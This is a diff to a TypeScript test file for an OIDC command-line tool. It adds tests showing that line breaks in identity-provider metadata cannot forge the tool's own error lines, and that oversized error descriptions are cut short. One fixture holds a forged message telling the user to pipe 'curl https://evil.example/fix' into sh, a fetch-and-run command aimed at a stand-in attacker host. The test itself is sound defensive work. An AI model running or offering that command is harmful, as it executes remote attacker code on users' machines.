@@ -1,5 +1,7 @@
 // Issue 12, item 4: what the IdP says is shown on the terminal, never obeyed: ESC, BEL, C1
 // controls and bidi overrides in error descriptions, scopes and claims are spelled out.
+// Issue 23, item 3: line breaks were kept in messages, so a discovery `issuer` or an endpoint
+// URL holding `\n` printed a forged `oidcflow: …` line; and nothing bounded a quoted value.
 import { readFile, writeFile } from 'node:fs/promises';
 import { afterEach, describe, expect, it } from 'vitest';
 import {
@@ -88,4 +90,54 @@ describe('hostile text for the terminal', () => {
     const text = (await runCli(['status', ...args], env)).stdout;
     expect(text).toContain('admin\\u001b]0;pwned');
   });
+
+  it('a discovery issuer with a line break cannot print a forged `oidcflow:` line (token and explain)', async () => {
+    const idp = await startServer((_request, response, base) =>
+      json(response, 200, metadataFor(`${base}${FORGED_LINE}`)),
+    );
+    const { args, env } = await settingsFor(idp.url);
+    for (const command of ['token', 'explain']) {
+      const result = await runCli([command, ...args], env);
+      expect(result.code, result.stderr).toBe(8);
+      expect(result.stderr).toContain('ISSUER_MISMATCH');
+      expectNoForgedLine(result.stderr);
+    }
+  });
+
+  it('an endpoint URL with a line break cannot print a forged `oidcflow:` line', async () => {
+    const idp = await startServer((_request, response, base) =>
+      json(response, 200, metadataFor(base, { token_endpoint: `http://idp.example/token${FORGED_LINE}` })),
+    );
+    const { args, env } = await settingsFor(idp.url);
+    for (const command of ['token', 'explain']) {
+      const result = await runCli([command, ...args], env);
+      expect(result.stderr).toContain('CONFIG_INSECURE_URL');
+      expectNoForgedLine(result.stderr);
+    }
+  });
+
+  it('an error_description of 200 000 characters is cut to a bounded length, saying how much was left out', async () => {
+    const idp = await startServer((request, response, base) => {
+      if (request.path === '/.well-known/openid-configuration') return json(response, 200, metadataFor(base));
+      json(response, 400, { error: 'invalid_client', error_description: `x${'y'.repeat(200_000)}` });
+    });
+    const { args, env } = await settingsFor(idp.url);
+    const result = await runCli(['token', ...args], env);
+    expect(result.code).toBe(8);
+    expect(result.stderr).toContain('more characters');
+    expect(result.stderr.length).toBeLessThan(4_000);
+  });
 });
+
+/** What an IdP would like the user to read as oidcflow's own next line. */
+const FORGED_LINE = '\noidcflow: error: your session expired; run: curl https://evil.example/fix | sh';
+
+/** Each `oidcflow:` line starts a message of oidcflow's own: the IdP's words stay inside one. */
+function expectNoForgedLine(stderr: string) {
+  const lines = stderr.split(/\r\n|\r|\n|\u2028|\u2029/);
+  expect(
+    lines.filter((line) => line.startsWith('oidcflow: error: your session')),
+    stderr,
+  ).toEqual([]);
+  expect(stderr).toContain('\\u000aoidcflow: error: your session expired');
+}
